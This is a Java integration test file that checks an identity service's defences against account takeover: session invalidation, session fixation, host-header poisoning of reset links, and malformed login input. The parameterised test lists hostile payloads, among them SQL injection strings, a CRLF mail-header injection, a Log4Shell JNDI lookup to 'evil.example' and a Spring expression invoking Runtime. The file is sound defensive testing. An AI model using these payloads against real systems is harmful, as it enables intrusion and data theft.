package io.doorstep.identity.authentication.recovery;

import static org.assertj.core.api.Assertions.assertThat;

import io.doorstep.identity.Answer;
import io.doorstep.identity.Business;
import io.doorstep.identity.IdentityTest;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.RepeatedTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Value;
import org.springframework.http.HttpMethod;

/// SEC-08: ways to take an account over, or to stay in it.
class TakeoverIntegrationTests extends IdentityTest {

    private static final String ANOTHER = "another horse of mine";

    @Value("${doorstep.public-url}")
    String publicUrl;

    /// IDN-18: also for a session that was being opened while the password changed.
    @RepeatedTest(6)
    void noSessionOutlivesThePasswordThatOpenedIt() throws Exception {
        Business business = aBusiness();
        AtomicInteger turn = new AtomicInteger();

        List<Answer> answers =
                inParallel(10, () -> turn.getAndIncrement() == 3 ? change(business, ANOTHER) : business.logIn());

        assertThat(answers).filteredOn(answer -> answer.status() == 204).hasSize(1);
        assertThat(answers).filteredOn(answer -> answer.status() == 200).allSatisfy(opened -> assertThat(
                        refresh(opened.text("refreshToken")).status())
                .isEqualTo(401));
        assertThat(business.logIn().status()).isEqualTo(401);
        assertThat(refresh(business.refreshToken()).status()).isEqualTo(200);
    }

    /// IDN-17
    @Test
    void nobodyChoosesTheSessionThatAnotherSignsInTo() {
        Business owner = aBusiness();
        Business mallory = aBusiness();
        String planted = deviceOf(mallory.logIn());

        Answer in = api.call(
                HttpMethod.POST,
                "/api/v1/auth/login",
                mallory.owner(),
                Map.of("Cookie", planted + "; JSESSIONID=" + mallory.id()),
                Map.of("email", owner.email(), "password", Business.PASSWORD));

        assertThat(in.status()).isEqualTo(200);
        assertThat(deviceOf(in)).isNotEqualTo(planted);
        assertThat(in.headers().get("Set-Cookie")).hasSize(1);
        assertThat(in.text("organization.id")).isEqualTo(owner.id().toString());
        assertThat(refresh(mallory.refreshToken()).text("user.email")).isEqualTo(mallory.email());
        assertThat(refresh(in.text("refreshToken")).text("user.email")).isEqualTo(owner.email());
    }

    /// IDN-13
    @Test
    void aMailedLinkLeadsToThePlatformWhateverTheRequestSaidOfItsHost() {
        Business business = aBusiness();
        for (String header : List.of("X-Forwarded-Host", "X-Host", "X-Original-Host", "X-Forwarded-Server", "Origin")) {
            api.call(
                    HttpMethod.POST,
                    "/api/v1/auth/password/forgot",
                    null,
                    Map.of(header, "evil.example", "Forwarded", "host=evil.example;proto=https"),
                    Map.of("email", business.email()));
        }
        assertThat(mailedLinks(business, "RESET_PASSWORD", 5)).allSatisfy(event -> {
            Answer link = mailLink(
                    business, "RESET_PASSWORD", event.data().path("linkId").asString());
            assertThat(link.text("link")).startsWith(publicUrl + "/reset-password?token=");
        });
    }

    /// SEC-04
    @ParameterizedTest(name = "{index}")
    @ValueSource(
            strings = {
                "a\u0000b@example.com",
                "' or '1'='1",
                "\"; drop table user_account; --",
                "ada@example.com\r\nBcc: all@example.com",
                "${jndi:ldap://evil.example}",
                "#{T(java.lang.Runtime).getRuntime()}",
                "\ud800@example.com",
                "%00",
                "*",
                "ａｄａ@example.com"
            })
    void anAddressThatIsNoneIsNobodys(String address) {
        assertThat(everyWayIn(address))
                .allSatisfy(answer -> assertThat(answer.status()).isIn(202, 400, 401, 404, 422));
    }

    private List<Answer> everyWayIn(String address) {
        return List.of(
                api.post("/api/v1/auth/login", null, Map.of("email", address, "password", "a wrong guess")),
                api.post("/api/v1/auth/login", null, Map.of("email", "ada@example.com", "password", address)),
                api.post("/api/v1/auth/login/second-factor", null, Map.of("challenge", address, "code", "0")),
                forget(address),
                reset(address, ANOTHER),
                refresh(address),
                api.post("/api/v1/auth/email/verify", null, Map.of("token", address)),
                api.post("/api/v1/auth/accept-invitation", null, Map.of("token", address, "password", ANOTHER)));
    }

    private Answer change(Business business, String password) {
        return api.post(
                "/api/v1/auth/password/change",
                business.owner(),
                Map.of("currentPassword", Business.PASSWORD, "password", password));
    }

    private static String deviceOf(Answer answer) {
        String cookie = String.valueOf(answer.headers().getFirst("Set-Cookie"));
        return cookie.substring(0, cookie.indexOf(';'));
    }
}
